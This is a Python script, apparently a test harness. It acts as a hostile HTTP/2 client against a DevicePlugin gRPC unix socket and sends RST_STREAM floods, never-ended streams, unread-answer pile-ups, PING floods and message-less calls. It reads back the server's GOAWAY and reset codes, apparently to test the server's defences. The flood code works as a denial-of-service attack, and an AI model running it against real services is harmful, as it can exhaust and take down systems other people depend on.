#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""h2-abuse.py SOCKET MODE N [--hold FILE] [--conns C] [--device ID] [--wait-close S] [--stall S]
                            [--path METHOD_PATH]

A hostile HTTP/2 peer on a DevicePlugin unix socket, written frame by frame
(hyperframe + hpack) so that nothing of a well-behaved client's state machine
gets in the way. It never acknowledges the server's SETTINGS, so limits that
only a polite client honours do not apply to it. Modes:

  rst-flood N       N x [HEADERS of an Allocate, RST_STREAM CANCEL] on new
                    streams; the server's frames are read (and counted)
  open-streams N    N Allocate HEADERS without END_STREAM, never ended; the
                    server's frames are read (and counted)
  unread-answers N  N complete Allocates; the socket is never read, so the
                    answers pile up on the server's side
  ping-flood N      N PINGs; the acks are never read
  no-message N      N calls whose HEADERS end the stream: no request message
                    at all (not an empty one); the answers are read

The calls are Allocates, or --path's method.

With --hold FILE the connections stay as they are once the frames are out
(or the server stopped taking them) until FILE exists; then what the server
sent is read to its end. --conns C runs the attack on C connections at once.
A send blocked for --stall S seconds (default 3) means the server stopped
reading.

Output, one line each:
  sent conn=K frames=F of=T         frames written before the server stopped
                                    reading or closed (T asked for)
  held                              (with --hold) every connection is done sending
  result conn=K goaway=CODE|none last_stream=S rst=R rst_codes=C1,C2 closed=yes|no
    CODE and the RST_STREAM codes as RFC 9113 names them
  status conn=K stream=S grpc-status=N grpc-message=TEXT   (no-message) each answer's trailers
"""
import os
import socket
import struct
import sys
import threading
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
SEND_STALL_S = 3        # a send blocked this long: the server stopped reading (--stall)


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else str(code)


def allocate_message(device):
    ident = device.encode()
    inner = b"\x0a" + bytes([len(ident)]) + ident
    outer = b"\x0a" + bytes([len(inner)]) + inner
    return b"\x00" + struct.pack(">I", len(outer)) + outer


class Conn:
    def __init__(self, path, index, stall_s, method_path, want_status):
        self.index = index
        self.method_path = method_path
        self.dec = Decoder() if want_status else None   # the floods' readers only count
        self.statuses = []
        self.stall_s = stall_s
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        self.enc = Encoder()
        self.goaway = None
        self.last_stream = None
        self.rst = []
        self.closed = False
        self.sent = 0
        self.reader = None
        self.last_read = time.monotonic()
        self.buf = b""
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def headers(self, stream_id, end_stream):
        block = self.enc.encode([(":method", "POST"), (":scheme", "http"),
                                 (":path", self.method_path), (":authority", "localhost"),
                                 ("content-type", "application/grpc"), ("te", "trailers")])
        f = HeadersFrame(stream_id, block)
        f.flags.add("END_HEADERS")
        if end_stream:
            f.flags.add("END_STREAM")
        return f.serialize()

    def send(self, data, frames):
        """False once the server closed or stopped reading."""
        self.sock.settimeout(self.stall_s)
        try:
            self.sock.sendall(data)
        except (socket.timeout, OSError):
            return False
        self.sent += frames
        return True

    def parse(self, data):
        buf = self.buf + data
        pos = 0
        while len(buf) - pos >= 9:
            f, length = Frame.parse_frame_header(memoryview(buf)[pos:pos + 9])
            if len(buf) - pos < 9 + length:
                break
            f.parse_body(memoryview(buf)[pos + 9:pos + 9 + length])
            pos += 9 + length
            if isinstance(f, GoAwayFrame):
                self.goaway = f.error_code
                self.last_stream = f.last_stream_id
            elif isinstance(f, RstStreamFrame):
                self.rst.append(f.error_code)
            elif isinstance(f, HeadersFrame) and self.dec:
                fields = dict(self.dec.decode(bytes(f.data)))
                if "grpc-status" in fields:
                    self.statuses.append((f.stream_id, fields["grpc-status"], fields.get("grpc-message", "")))
        self.buf = buf[pos:]

    def read_background(self):
        """The rst-flood reads as it goes, as a client that wants its answers does."""
        r = self.sock.dup()
        r.settimeout(1)         # the fd is non-blocking for both: each waits with poll
        try:
            while True:
                try:
                    d = r.recv(1 << 20)
                except socket.timeout:
                    continue
                self.last_read = time.monotonic()
                if not d:
                    self.closed = True
                    return
                self.parse(d)
        except OSError:
            self.closed = True

    def read_all(self, until_close_s):
        """Reads until the server closes, or stays quiet for a while."""
        end = time.monotonic() + until_close_s
        self.sock.settimeout(2 if not until_close_s else 1)
        try:
            while True:
                try:
                    d = self.sock.recv(1 << 20)
                except socket.timeout:
                    if time.monotonic() < end:
                        continue
                    raise
                if not d:
                    self.closed = True
                    return
                self.parse(d)
        except socket.timeout:
            return
        except OSError:
            self.closed = True

    def report(self):
        codes = sorted(set(error_name(c) for c in self.rst))
        print("result conn=%d goaway=%s last_stream=%s rst=%d rst_codes=%s closed=%s" % (
            self.index, error_name(self.goaway) if self.goaway is not None else "none",
            self.last_stream if self.last_stream is not None else "-", len(self.rst),
            ",".join(codes) or "-", "yes" if self.closed else "no"), flush=True)
        for sid, code, text in self.statuses:
            print("status conn=%d stream=%d grpc-status=%s grpc-message=%s" % (self.index, sid, code, text),
                  flush=True)


def batches(n, size=500):
    for start in range(0, n, size):
        yield range(start, min(n, start + size))


def attack(c, mode, n, device):
    if mode in ("rst-flood", "open-streams"):
        c.reader = threading.Thread(target=c.read_background, daemon=True)
        c.reader.start()
    msg = allocate_message(device)
    for b in batches(n):
        out = []
        for i in b:
            sid = 2 * i + 1
            if mode == "rst-flood":
                out.append(c.headers(sid, False))
                out.append(RstStreamFrame(sid, error_code=8).serialize())
            elif mode == "open-streams":
                out.append(c.headers(sid, False))
            elif mode == "unread-answers":
                out.append(c.headers(sid, False))
                d = DataFrame(sid, msg)
                d.flags.add("END_STREAM")
                out.append(d.serialize())
            elif mode == "no-message":
                out.append(c.headers(sid, True))
            elif mode == "ping-flood":
                out.append(PingFrame(0, struct.pack(">Q", i)).serialize())
        if not c.send(b"".join(out), len(b)):
            break
    print("sent conn=%d frames=%d of=%d" % (c.index, c.sent, n), flush=True)


def main():
    args = sys.argv[1:]
    if len(args) < 3:
        sys.exit(__doc__)
    path, mode, n = args[0], args[1], int(args[2])
    hold, conns, device, wait_close, stall_s = None, 1, "widget-1", 0, SEND_STALL_S
    method_path = "/v1beta1.DevicePlugin/Allocate"
    rest = args[3:]
    while rest:
        opt, val, rest = rest[0], rest[1], rest[2:]
        if opt == "--hold":
            hold = val
        elif opt == "--conns":
            conns = int(val)
        elif opt == "--device":
            device = val
        elif opt == "--wait-close":
            wait_close = float(val)
        elif opt == "--stall":
            stall_s = float(val)
        elif opt == "--path":
            method_path = val
        else:
            sys.exit("unknown option " + opt)
    if mode not in ("rst-flood", "open-streams", "unread-answers", "ping-flood", "no-message"):
        sys.exit("unknown mode " + mode)
    cs = [Conn(path, i, stall_s, method_path, mode == "no-message") for i in range(conns)]
    threads = [threading.Thread(target=attack, args=(c, mode, n, device)) for c in cs]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if hold:
        print("held", flush=True)
        while not os.path.exists(hold):
            time.sleep(0.05)
    for c in cs:
        if c.reader:
            while c.reader.is_alive() and time.monotonic() - c.last_read < 2:
                c.reader.join(0.1)
        else:
            c.read_all(wait_close)
        c.report()


if __name__ == "__main__":
    main()
